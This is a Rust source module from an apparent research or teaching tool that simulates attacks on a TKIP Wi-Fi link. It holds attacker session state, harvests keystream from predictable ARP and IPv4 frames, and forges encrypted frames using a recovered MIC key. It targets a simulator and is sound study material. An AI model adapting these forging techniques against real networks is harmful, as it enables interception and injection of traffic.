//! Attacks against a simulated TKIP link.
//!
//! Every attack works through a [`Session`], which holds what the attacker
//! has learned so far (addresses, the downstream MIC key, harvested
//! keystream) and keeps it current from the observations the simulator
//! hands out. Nothing in here reads the simulator's ground truth.

mod chopchop;
mod reset;
pub mod script;
mod tcp_scan;

use std::net::Ipv4Addr;

pub use chopchop::{ChopConfig, ChopResult, ARP_KNOWN_PREFIX};
pub use reset::{
    encrypt_fragments, icmp_insert_template, michael_reset, solve_reset, Decryption, IcmpDecryptConfig, ResetSolution,
    MAX_INSERT_FRAGMENTS,
};
pub use tcp_scan::{LocalScanConfig, LocalScanReport, RemoteScanConfig, RemoteScanReport};

use crate::addr::{Direction, MacAddr};
use crate::collision::CollisionError;
use crate::frames::capture::CaptureRecord;
use crate::frames::packet::{parse_arp, parse_llc_snap, ETHERTYPE_ARP};
use crate::frames::{icv, FragmentSlot, FrameError, Mpdu, MIC_LEN};
use crate::keystream::{harvest, HarvestContext, HarvestError, KeystreamPool, PoolError, Template};
use crate::michael::{mic_compute, MicHeader, MicKey, MichaelError};
use crate::simnet::{AirFrame, Attacker, Micros, Observation};

/// Downstream ARP frames are exactly this long on the air.
pub const ARP_FRAME_LEN: usize = 48;

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum AttackError {
    #[error("attacker lacks {0}")]
    NotReady(&'static str),
    #[error("unsuitable target frame: {0}")]
    BadTarget(&'static str),
    #[error("countermeasures engaged at t={at}us")]
    CountermeasureTriggered { at: Micros },
    #[error("no guess for byte {byte} drew a MIC failure report")]
    NoGuessAccepted { byte: usize },
    #[error("no QoS channel left for this TSC")]
    ChannelBudgetExhausted,
    #[error("no reset came back for the probe")]
    NoRstObserved,
    #[error("all {rejected} harvested candidates failed confirmation")]
    GuessesRejected { rejected: usize },
    #[error("no SYN/ACK reached the WAN host")]
    NoHandshake,
    #[error("no TTL in the guessed window was confirmed")]
    TtlGuessExhausted,
    #[error("no echo reply after {attempts} attempts")]
    IcmpBlocked { attempts: usize },
    #[error("no route to a WAN host")]
    NoWanRoute,
    #[error(transparent)]
    Pool(#[from] PoolError),
    #[error(transparent)]
    Frame(#[from] FrameError),
    #[error(transparent)]
    Harvest(#[from] HarvestError),
    #[error(transparent)]
    Collision(#[from] CollisionError),
    #[error(transparent)]
    Michael(#[from] MichaelError),
}

impl AttackError {
    /// Short machine-readable name.
    pub fn kind(&self) -> &'static str {
        match self {
            AttackError::NotReady(_) => "not_ready",
            AttackError::BadTarget(_) => "bad_target",
            AttackError::CountermeasureTriggered { .. } => "countermeasure_triggered",
            AttackError::NoGuessAccepted { .. } => "no_guess_accepted",
            AttackError::ChannelBudgetExhausted => "channel_budget_exhausted",
            AttackError::NoRstObserved => "no_rst_observed",
            AttackError::GuessesRejected { .. } => "guesses_rejected",
            AttackError::NoHandshake => "no_handshake",
            AttackError::TtlGuessExhausted => "ttl_guess_exhausted",
            AttackError::IcmpBlocked { .. } => "icmp_blocked",
            AttackError::NoWanRoute => "no_wan_route",
            AttackError::Pool(_) => "pool",
            AttackError::Frame(_) => "frame",
            AttackError::Harvest(_) => "harvest",
            AttackError::Collision(_) => "collision",
            AttackError::Michael(_) => "michael",
        }
    }
}

/// The two stations, as learned from downstream traffic.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Link {
    pub client: MacAddr,
    pub ap: MacAddr,
}

/// A downstream frame seen on the air.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Captured {
    pub at: Micros,
    pub frame: AirFrame,
}

/// The attacker's accumulated knowledge.
#[derive(Debug, Clone)]
pub struct Session {
    pub pool: KeystreamPool,
    pub link: Option<Link>,
    pub mic_key: Option<MicKey>,
    pub client_ip: Option<Ipv4Addr>,
    pub ap_ip: Option<Ipv4Addr>,
    /// Recent downstream single-fragment frames, oldest first.
    pub captured: Vec<Captured>,
    pub wan_inbox: Vec<(Micros, Vec<u8>)>,
    pub reports: Vec<Micros>,
    pub countermeasures: Vec<Micros>,
    /// Harvest LLC/IPv4 guesses from every downstream frame.
    pub harvest_llc: bool,
    pub capture_limit: usize,
    /// Every air frame seen, both directions, when set.
    pub record: Option<Vec<CaptureRecord>>,
    next_probe: u32,
}

impl Default for Session {
    fn default() -> Self {
        Self {
            pool: KeystreamPool::new(),
            link: None,
            mic_key: None,
            client_ip: None,
            ap_ip: None,
            captured: Vec::new(),
            wan_inbox: Vec::new(),
            reports: Vec::new(),
            countermeasures: Vec::new(),
            harvest_llc: true,
            capture_limit: 8192,
            record: None,
            next_probe: 0,
        }
    }
}

impl Session {
    pub fn new() -> Self {
        Self::default()
    }

    /// Fold new observations into the session.
    pub fn absorb(&mut self, obs: Vec<Observation>) {
        for o in obs {
            if let (Some(rec), Observation::Air { frame, .. }) = (self.record.as_mut(), &o) {
                rec.extend(frame.mpdus.iter().map(|m| CaptureRecord {
                    direction: frame.direction,
                    mpdu: m.clone(),
                }));
            }
            match o {
                Observation::Air { at, frame } if frame.direction == Direction::ApToClient => {
                    self.link.get_or_insert(Link {
                        client: frame.da,
                        ap: frame.sa,
                    });
                    for m in &frame.mpdus {
                        self.pool.observe(m.qos_channel, m.tsc);
                    }
                    if frame.mpdus.len() == 1 {
                        self.harvest_passive(&frame.mpdus[0]);
                        self.captured.push(Captured { at, frame });
                        if self.captured.len() > self.capture_limit {
                            let excess = self.captured.len() - self.capture_limit;
                            self.captured.drain(..excess);
                        }
                    }
                }
                Observation::Air { .. } => {}
                Observation::MicFailureReport { at, .. } => self.reports.push(at),
                Observation::Countermeasures { at } => {
                    // The link is rekeyed: everything keyed is void.
                    self.countermeasures.push(at);
                    self.pool = KeystreamPool::new();
                    self.mic_key = None;
                    self.captured.clear();
                }
                Observation::Wan { at, packet } => self.wan_inbox.push((at, packet)),
            }
        }
    }

    fn harvest_passive(&mut self, m: &Mpdu) {
        if m.ciphertext.len() == ARP_FRAME_LEN {
            let (Some(ctx), true) = (self.arp_context(m.qos_channel), self.pool.get(m.tsc).is_none()) else {
                return;
            };
            if let Ok(c) = harvest(m, Template::LlcArp, &ctx) {
                self.pool.insert(c);
            }
        } else if self.harvest_llc && self.pool.get(m.tsc).is_none() {
            if let Ok(c) = harvest(m, Template::LlcIpv4, &HarvestContext::default()) {
                self.pool.insert(c);
            }
        }
    }

    /// The AP's periodic ARP request, fully predictable once the addresses
    /// and the MIC key are known.
    fn arp_context(&self, channel: u8) -> Option<HarvestContext> {
        let (link, key, client_ip, ap_ip) = (self.link?, self.mic_key?, self.client_ip?, self.ap_ip?);
        Some(HarvestContext {
            arp: Some(crate::frames::packet::ArpPacket {
                op: 1,
                sender_mac: link.ap,
                sender_ip: ap_ip,
                target_mac: MacAddr::ZERO,
                target_ip: client_ip,
            }),
            mic: Some((key, MicHeader::new(link.client, link.ap, channel).ok()?)),
            ..HarvestContext::default()
        })
    }

    /// Learn the addresses from a decrypted downstream ARP body.
    pub fn learn_arp(&mut self, body: &[u8]) -> bool {
        let Ok((ETHERTYPE_ARP, rest)) = parse_llc_snap(body) else { return false };
        let Ok(arp) = parse_arp(rest) else { return false };
        self.ap_ip = Some(arp.sender_ip);
        self.client_ip = Some(arp.target_ip);
        true
    }

    pub fn sync(&mut self, a: &mut Attacker<'_>) {
        let obs = a.poll();
        self.absorb(obs);
    }

    /// Inject with an empty inbox, so replies can be told apart.
    pub fn inject(&mut self, a: &mut Attacker<'_>, frame: AirFrame) {
        self.sync(a);
        a.inject(frame);
    }

    /// Run until an observation matches `pred`; returns a copy of it. All
    /// observations are absorbed either way.
    pub fn await_obs(
        &mut self,
        a: &mut Attacker<'_>,
        timeout: Micros,
        mut pred: impl FnMut(&Observation) -> bool,
    ) -> Option<Observation> {
        a.wait_for(timeout, &mut pred);
        let obs = a.poll();
        let hit = obs.iter().find(|o| pred(o)).cloned();
        self.absorb(obs);
        hit
    }

    /// Wait, absorbing everything seen meanwhile.
    pub fn wait(&mut self, a: &mut Attacker<'_>, d: Micros) {
        a.wait(d);
        self.sync(a);
    }

    /// Fresh source port and ISN for a probe.
    fn probe_ids(&mut self) -> (u16, u32) {
        self.next_probe = self.next_probe.wrapping_add(1);
        let n = self.next_probe;
        (40000 + (n % 20000) as u16, 0x1000_0000u32.wrapping_add(n.wrapping_mul(0x9e37_79b9)))
    }

    pub fn link(&self) -> Result<Link, AttackError> {
        self.link.ok_or(AttackError::NotReady("station addresses"))
    }

    pub fn key(&self) -> Result<MicKey, AttackError> {
        self.mic_key.ok_or(AttackError::NotReady("the downstream MIC key"))
    }

    pub fn ips(&self) -> Result<(Ipv4Addr, Ipv4Addr), AttackError> {
        self.client_ip
            .zip(self.ap_ip)
            .ok_or(AttackError::NotReady("the client and AP addresses"))
    }

    /// Downstream MIC header for `channel`.
    pub fn header(&self, channel: u8) -> Result<MicHeader, AttackError> {
        let l = self.link()?;
        Ok(MicHeader::new(l.client, l.ap, channel)?)
    }

    /// Encrypt `data` over the planned slots as a downstream frame, marking
    /// the slots spent on `channel`.
    pub fn encrypt_plan(&mut self, plan: &[FragmentSlot], channel: u8, data: &[u8]) -> Result<AirFrame, AttackError> {
        let link = self.link()?;
        Ok(AirFrame {
            direction: Direction::ApToClient,
            da: link.client,
            sa: link.ap,
            mpdus: reset::encrypt_fragments(&mut self.pool, plan, channel, data, false)?,
        })
    }

    /// `body ‖ MIC` for an injection on `channel`.
    pub fn with_mic(&self, body: &[u8], channel: u8) -> Result<Vec<u8>, AttackError> {
        let mut data = body.to_vec();
        data.extend_from_slice(&mic_compute(&self.key()?, &self.header(channel)?, body)?);
        Ok(data)
    }

    /// Forge a complete MSDU from the pool, on `channel` or the first
    /// channel that can carry it.
    pub fn forge(&mut self, channel: Option<u8>, body: &[u8]) -> Result<(AirFrame, Vec<u64>), AttackError> {
        let (channel, plan) = match channel {
            Some(c) => (c, self.pool.plan(c, body.len())?),
            None => self.pool.plan_any(body.len())?,
        };
        let data = self.with_mic(body, channel)?;
        let tscs = plan.iter().map(|s| s.tsc).collect();
        Ok((self.encrypt_plan(&plan, channel, &data)?, tscs))
    }

    /// Forge using exactly the given pool entries.
    pub fn forge_with(&mut self, tscs: &[u64], channel: u8, body: &[u8]) -> Result<AirFrame, AttackError> {
        let plan = self.pool.plan_with(tscs, channel, body.len() + MIC_LEN)?;
        let data = self.with_mic(body, channel)?;
        self.encrypt_plan(&plan, channel, &data)
    }

    /// Drop the unconfirmed entries among `tscs`, keep the rest.
    pub fn discard_unconfirmed(&mut self, tscs: &[u64]) {
        for &t in tscs {
            if self.pool.get(t).is_some_and(|e| !e.confirmed) {
                self.pool.remove(t);
            }
        }
    }

    pub fn confirm_all(&mut self, tscs: &[u64]) {
        for &t in tscs {
            self.pool.confirm(t);
        }
    }
}

/// Full plaintext (`body ‖ MIC ‖ ICV`) of a downstream MSDU.
pub fn full_plaintext(key: &MicKey, header: &MicHeader, body: &[u8]) -> Result<Vec<u8>, MichaelError> {
    let mut p = body.to_vec();
    p.extend_from_slice(&mic_compute(key, header, body)?);
    let c = icv(&p);
    p.extend_from_slice(&c);
    Ok(p)
}

